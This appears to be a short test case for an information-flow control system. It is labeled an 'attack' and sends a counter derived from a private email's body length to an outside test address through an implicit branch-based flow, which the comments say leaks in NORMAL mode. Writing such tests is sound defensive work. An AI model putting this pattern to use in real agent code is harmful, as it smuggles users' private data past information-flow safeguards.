// attack: a plain loop whose labeled if (an email flag) adds to a number counter; a template of the counter is built natively after it, in the loop, and sent
// normal: leaks (implicit flow, allowed in NORMAL mode: the write ran in a branch)
const m = await getEmail('m1');
const flags = [m.body.length > 3, false, true];
let c = 0;
let t = '';
for (let i = 0; i < 3; i++) {
  if (flags[i]) {
    c = c + 1;
  }
  t = `n${c}`;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: t });
